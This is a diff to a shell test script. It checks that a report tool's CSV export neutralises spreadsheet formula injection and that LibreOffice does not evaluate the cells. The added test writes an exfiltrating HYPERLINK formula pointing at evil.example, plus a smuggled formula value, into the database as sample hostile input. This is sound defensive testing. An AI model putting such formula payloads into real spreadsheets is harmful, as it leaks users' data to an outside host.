@@ -78,6 +78,22 @@ expect 1 "merge the packages again" "$log" report "$work/old.fleet" --out "$work
 expect 1 "merge the packages again" "$log" merge "${packages[0]}" --out "$work/old.fleet"
 expect 1 "is not there" "$log" report "$work/none" --out "$work/x.xlsx"
 
+# --table: what a spreadsheet would run is text there, and numbers are numbers; LibreOffice is asked
+cp "$work/a.fleet" "$work/evil.fleet"
+sqlite3 "$work/evil.fleet" "UPDATE label SET partner = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Total\")', event = 'x;=1+1;y'"
+expect 0 "evil.xlsx" "$log" report "$work/evil.fleet" --out "$work/evil.xlsx" --table "$work/evil.csv"
+grep -q ",\"'=HYPERLINK(" "$work/evil.csv" || fail "a formula stands in the table"
+! grep -qE '(^|[,;"])[[:blank:]]*[=+@]' "$work/evil.csv" || fail "a formula begins in the table"
+if command -v soffice >/dev/null; then
+  (head -n 50 "$work/evil.csv") >"$work/some.csv"
+  for separators in 44 59 44/59; do # as in Brussels, as in Paris, and both
+    timeout 120 soffice "-env:UserInstallation=file://$work/profile" --headless --infilter="CSV:$separators,34,76,1" \
+      --convert-to fods --outdir "$work" "$work/some.csv" >"$work/said" 2>&1 || { cat "$work/said"; fail "LibreOffice does not open the table"; }
+    ! grep -q 'table:formula' "$work/some.fods" || fail "LibreOffice calculates a cell of the table (separators $separators)"
+    grep -q HYPERLINK "$work/some.fods" || fail "LibreOffice does not show the partner"
+  done
+fi
+
 # sealed
 expect 0 "the secret key" "$log" make-key --out "$work/ngo"
 [[ $(stat -c %a "$work/ngo") == 600 ]] || fail "others may read the secret key"
